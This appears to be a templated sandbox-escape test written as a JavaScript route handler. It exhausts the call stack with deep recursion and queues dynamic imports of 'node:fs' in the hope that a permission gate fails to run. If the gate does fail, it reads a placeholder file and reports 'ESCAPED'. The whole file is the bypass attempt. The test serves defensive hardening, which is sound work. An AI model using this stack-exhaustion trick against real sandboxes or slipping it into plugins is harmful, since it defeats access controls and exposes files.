// attack: imports with hardly any stack left, where the gate might not run
// worker: held
// process: held
routerAdd("GET", "/attack/%NAME%", async (e) => {
  const found = [];
  const attempt = async (what, fn) => {
    try { found.push([what, await fn()]) } catch (error) { found.push([what, "refused: " + error]) }
  };
  const started = [];
  function deep() { try { deep() } finally { if (started.length < 40) started.push(import(["node:fs"][0])) } }
  for (let i = 0; i < 5; i++) try { deep() } catch {}
  for (const one of await Promise.allSettled(started)) {
    if (one.status === "fulfilled") found.push("ESCAPED " + one.value.default?.readFileSync("%FILE%"));
  }
  return e.json(200, found);
});
